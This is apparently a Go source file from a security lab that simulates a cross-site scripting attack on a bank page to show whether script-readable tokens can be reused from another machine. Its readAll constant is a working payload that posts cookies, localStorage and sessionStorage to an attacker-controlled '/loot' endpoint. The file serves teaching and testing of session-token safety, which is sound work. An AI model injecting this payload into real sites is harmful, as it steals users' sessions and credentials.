package lab

// scriptAttacks are those of script in the bank's own page.
var scriptAttacks = []Attack{
	{Name: "script-reads", Title: "Script reads the token and uses it elsewhere", Browser: true, run: scriptReads,
		About: "Script of the thief runs in the bank's page. It sends him everything that it can read; he tries all of it from his own machine."},
}

// readAll is the script of a thief who takes what he can read.
const readAll = `fetch("%s/loot", {method: "POST", mode: "no-cors", body: JSON.stringify({cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}})})`

func scriptReads(s *stage) Outcome {
	s.did("The owner signs in.")
	tab := s.tab()
	tab.signIn(ada)
	s.did("The thief writes script onto the notice board; the owner opens the page.")
	s.bank.inject(scriptf(readAll, s.stranger))
	tab.visit("/")
	s.awaitLoot("{")
	tab.see()
	s.did("The thief tries everything that came, as a bearer token and as a cookie.")
	if s.worksElsewhere(s.looted()) {
		return elsewhere("Script can read it, so it is as good in other hands.")
	}
	return refused("Script can read nothing that is worth anything elsewhere.")
}
